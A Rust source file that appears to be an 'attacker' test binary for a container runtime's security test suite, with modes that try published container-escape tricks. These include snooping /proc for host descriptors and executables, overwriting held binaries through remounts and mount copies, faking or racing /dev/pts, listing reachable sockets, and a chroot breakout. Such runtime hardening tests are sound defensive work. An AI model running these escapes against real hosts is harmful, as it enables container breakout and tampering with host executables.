//! The attacker: what hostile processes inside a container do, one mode a run. It answers in one line.
//! Used by the cases of the security corpus only; every mode is a published weakness tried on whatever runs us.

mod calls;

use nix::errno::Errno;
use nix::fcntl::{OFlag, open};
use nix::mount::{MntFlags, MsFlags, mount, umount2};
use nix::sys::stat::{Mode, SFlag, fstat};
use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::io::Write;
use std::os::fd::{AsRawFd, OwnedFd};
use std::path::Path;
use std::time::{Duration, Instant};

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let words: Vec<&str> = args.iter().map(String::as_str).collect();
    match words.as_slice() {
        ["snoop", stop] => snoop(Path::new(stop)),
        ["unwrap", path, ms] => unwrap(path, ms.parse().unwrap_or(1000)),
        ["fake-terminals", kind] => fake_terminals(kind),
        ["swap-terminals", stop] => swap_terminals(Path::new(stop)),
        ["sockets"] => sockets(),
        ["escape", path] => escape(path),
        ["open-fds", max] => open_fds(max.parse().unwrap_or(32)),
        other => {
            eprintln!("attacker: no mode {other:?}");
            std::process::exit(2)
        }
    }
}

fn say(line: &str) {
    // Readers poll the file while we go on; without a reader there is nobody to tell.
    let _ = std::io::stdout().lock().write_all(format!("{line}\n").as_bytes());
}

/// The ids of all mounts of this namespace: what lies on another one is not ours.
fn own_mounts() -> BTreeSet<u64> {
    let text = fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    text.lines().filter_map(|line| line.split(' ').next()?.parse().ok()).collect()
}

fn mount_id(fd: &OwnedFd) -> Option<u64> {
    let text = fs::read_to_string(format!("/proc/self/fdinfo/{}", fd.as_raw_fd())).ok()?;
    text.lines().find_map(|line| line.strip_prefix("mnt_id:")?.trim().parse().ok())
}

/// Looks at every other process as fast as it can, and at the next pids before they are there: directories of the host
/// behind its descriptors, root or working directory, an executable that can be opened for writing (CVE-2016-9962).
fn snoop(stop: &Path) {
    let mounts = own_mounts();
    let me = std::process::id();
    let (mut looks, mut seen, mut next) = (0u64, BTreeSet::new(), me + 1);
    let mut found: BTreeMap<String, u64> = BTreeMap::new();
    say("ready");
    let mut executables: Vec<OwnedFd> = vec![];
    let mut check = Instant::now();
    loop {
        looks += 1;
        // The next one, before it shows in a listing.
        for pid in next..next + 2 {
            for fd in 3..12 {
                if let Some(what) = directory(&format!("/proc/{pid}/fd/{fd}"), &mounts) {
                    *found.entry(format!("fd/{fd} of a new process: {what}")).or_default() += 1;
                }
            }
        }
        if looks % 16 == 0 {
            for name in fs::read_dir("/proc").into_iter().flatten().flatten().map(|e| e.file_name()) {
                let Some(pid) =
                    name.to_str().and_then(|n| n.parse::<u32>().ok()).filter(|&p| p != me && p != 1)
                else {
                    continue;
                };
                if seen.insert(pid) {
                    next = next.max(pid + 1);
                }
                look_at(pid, &mounts, &mut found, &mut executables);
            }
        }
        if check.elapsed() > Duration::from_millis(50) {
            check = Instant::now();
            if stop.exists() {
                break;
            }
        }
    }
    // An executable in use is busy for everybody: once they have all ended, it says who may write.
    std::thread::sleep(Duration::from_millis(300));
    for exe in &executables {
        let again = format!("/proc/self/fd/{}", exe.as_raw_fd());
        if open(again.as_str(), OFlag::O_WRONLY | OFlag::O_APPEND | OFlag::O_CLOEXEC, Mode::empty()).is_ok() {
            *found.entry("writable exe".into()).or_default() += 1;
        }
    }
    let list: Vec<String> = found.iter().map(|(what, times)| format!("{what} x{times}")).collect();
    let (seen, held) = (seen.len(), executables.len());
    say(&format!(
        "looks {looks} processes {seen} executables {held} found {} {}",
        found.len(),
        list.join("; ")
    ));
}

fn look_at(
    pid: u32,
    mounts: &BTreeSet<u64>,
    found: &mut BTreeMap<String, u64>,
    executables: &mut Vec<OwnedFd>,
) {
    for name in ["root", "cwd"] {
        if let Some(what) = directory(&format!("/proc/{pid}/{name}"), mounts) {
            *found.entry(format!("{name}: {what}")).or_default() += 1;
        }
    }
    for entry in fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten() {
        let path = entry.path();
        if let Some(what) = directory(&path.to_string_lossy(), mounts) {
            *found.entry(format!("fd: {what}")).or_default() += 1;
        }
    }
    let exe = format!("/proc/{pid}/exe");
    let Ok(handle) = open(exe.as_str(), OFlag::O_PATH | OFlag::O_CLOEXEC, Mode::empty()) else { return };
    if executables.len() < 100 && mount_id(&handle).is_some_and(|id| !mounts.contains(&id)) {
        executables.push(handle);
    }
}

/// What is behind a link, if that is a directory on a mount that is not ours.
fn directory(path: &str, mounts: &BTreeSet<u64>) -> Option<String> {
    let fd = open(path, OFlag::O_PATH | OFlag::O_CLOEXEC, Mode::empty()).ok()?;
    let mode = fstat(&fd).ok()?.st_mode;
    if SFlag::from_bits_truncate(mode & SFlag::S_IFMT.bits()) != SFlag::S_IFDIR
        || mounts.contains(&mount_id(&fd)?)
    {
        return None;
    }
    if is_our_procfs(&fd) {
        return None;
    }
    let link = fs::read_link(format!("/proc/self/fd/{}", fd.as_raw_fd())).unwrap_or_default();
    Some(link.display().to_string())
}

/// A procfs of this pid namespace shows nothing that we cannot see anyway; in another one our number is another.
fn is_our_procfs(fd: &OwnedFd) -> bool {
    if !nix::sys::statfs::fstatfs(fd).is_ok_and(|s| s.filesystem_type() == nix::sys::statfs::PROC_SUPER_MAGIC)
    {
        return false;
    }
    let path = format!("/proc/self/fd/{}", fd.as_raw_fd());
    ["", "/..", "/../..", "/../../..", "/../../../.."].iter().any(|up| {
        fs::read_link(format!("{path}{up}/self"))
            .is_ok_and(|to| to.to_str() == Some(&std::process::id().to_string()))
    })
}

/// Holds an executable and tries to take its protection off: remount, mount_setattr, a copy of its mount.
fn unwrap(path: &str, ms: u64) {
    let handle = match open(path, OFlag::O_PATH | OFlag::O_CLOEXEC, Mode::empty()) {
        Ok(handle) => handle,
        Err(errno) => return say(&format!("{errno:?}")),
    };
    say("held");
    let again = format!("/proc/self/fd/{}", handle.as_raw_fd());
    let write = |path: &str| {
        let flags = OFlag::O_WRONLY | OFlag::O_APPEND | OFlag::O_CLOEXEC;
        open(path, flags, Mode::empty())
            .ok()
            .is_some_and(|fd| fs::File::from(fd).write_all(b"overwritten").is_ok())
    };
    let end = Instant::now() + Duration::from_millis(ms);
    let mut tricks: BTreeSet<&str> = BTreeSet::new();
    while Instant::now() < end {
        if calls::make_writable(&handle).is_ok() {
            tricks.insert("mount_setattr");
        }
        let remount = MsFlags::MS_REMOUNT | MsFlags::MS_BIND;
        if mount(None::<&str>, again.as_str(), None::<&str>, remount, None::<&str>).is_ok() {
            tricks.insert("remount");
        }
        if mount(Some(again.as_str()), "/tmp/copy", None::<&str>, MsFlags::MS_BIND, None::<&str>).is_ok() {
            tricks.insert("bind");
            let _ = mount(None::<&str>, "/tmp/copy", None::<&str>, remount, None::<&str>);
            if write("/tmp/copy") {
                return say("wrote through a bind mount");
            }
            let _ = umount2("/tmp/copy", MntFlags::MNT_DETACH);
        }
        if let Ok(copy) = calls::copy_mount(&handle) {
            tricks.insert("open_tree");
            if calls::make_writable(&copy).is_ok() && write(&format!("/proc/self/fd/{}", copy.as_raw_fd())) {
                return say("wrote through a copy of the mount");
            }
        }
        if write(&again) {
            return say("wrote");
        }
        std::thread::sleep(Duration::from_micros(200));
    }
    say(&format!("refused, {tricks:?}"));
}

/// Puts something else where a runtime looks for a terminal.
fn fake_terminals(kind: &str) {
    let _ = umount2("/dev/pts", MntFlags::MNT_DETACH);
    let mut said = vec![];
    for path in ["/dev/ptmx", "/dev/pts/ptmx"] {
        let _ = fs::remove_file(path);
        let node = |kind, device| nix::sys::stat::mknod(path, kind, Mode::from_bits_retain(0o666), device);
        let done = match kind {
            "fifo" => node(SFlag::S_IFIFO, 0),
            "file" => fs::write(path, "untouched").map_err(|_| Errno::EIO),
            "zero" => node(SFlag::S_IFCHR, nix::sys::stat::makedev(1, 5)),
            "tty" => node(SFlag::S_IFCHR, nix::sys::stat::makedev(5, 0)),
            "link" => std::os::unix::fs::symlink("/etc/plain", path).map_err(|_| Errno::EIO),
            // The real numbers on a filesystem that is no devpts.
            _ => node(SFlag::S_IFCHR, nix::sys::stat::makedev(5, 2)),
        };
        said.push(done.map_or_else(|e| format!("{e:?}"), |()| "ok".into()));
    }
    say(&said.join(" "));
}

/// Covers /dev/pts with plain files by turns.
fn swap_terminals(stop: &Path) {
    let fake = "/tmp/pts";
    let _ = fs::create_dir_all(fake);
    for n in 0..40 {
        let _ = fs::write(format!("{fake}/{n}"), "untouched");
    }
    let _ = fs::write(format!("{fake}/ptmx"), "untouched");
    say("ready");
    let mut rounds = 0u64;
    while !stop.exists() {
        for _ in 0..32 {
            if mount(Some(fake), "/dev/pts", None::<&str>, MsFlags::MS_BIND, None::<&str>).is_ok() {
                rounds += 1;
                std::thread::sleep(Duration::from_micros(150));
                let _ = umount2("/dev/pts", MntFlags::MNT_DETACH);
            }
            std::thread::sleep(Duration::from_micros(150));
        }
    }
    let touched = fs::read_dir(fake)
        .into_iter()
        .flatten()
        .flatten()
        .filter(|e| fs::read(e.path()).is_ok_and(|text| text != b"untouched"))
        .count();
    say(&format!("rounds {rounds} touched {touched}"));
}

/// Sockets and fifos that can be reached from here: a runtime's handshake must not be one of them.
fn sockets() {
    let mut found = vec![];
    let mut todo = vec![std::path::PathBuf::from("/")];
    while let Some(dir) = todo.pop() {
        for entry in fs::read_dir(dir).into_iter().flatten().flatten() {
            use std::os::unix::fs::FileTypeExt;
            let Ok(kind) = entry.file_type() else { continue };
            let path = entry.path();
            if kind.is_dir() && !["/proc", "/sys"].iter().any(|skip| path.starts_with(skip)) {
                todo.push(path);
            } else if kind.is_socket() || kind.is_fifo() {
                found.push(path.display().to_string());
            }
        }
    }
    // Names without a path belong to a network namespace and would be reachable from here.
    let text = fs::read_to_string("/proc/net/unix").unwrap_or_default();
    found.extend(text.lines().skip(1).filter_map(|line| line.split_whitespace().nth(7)).map(String::from));
    say(&format!("found {} {}", found.len(), found.join(" ")));
}

/// The old ways out of a root directory; says what can be seen at `path` then.
fn escape(path: &str) {
    let _ = fs::create_dir_all("/tmp/jail");
    let _ = nix::unistd::chroot("/tmp/jail");
    for _ in 0..64 {
        let _ = std::env::set_current_dir("..");
    }
    let _ = nix::unistd::chroot(".");
    let out = Path::new(path).exists();
    say(if out { "out" } else { "in" });
}

/// Descriptors from 3 on that are open, and what they are.
fn open_fds(max: i32) {
    let mut all = vec![];
    for fd in 3..max {
        if let Ok(link) = fs::read_link(format!("/proc/self/fd/{fd}")) {
            all.push(format!("{fd}={}", link.display()));
        }
    }
    say(&format!("{} {}", all.len(), all.join(" ")));
}
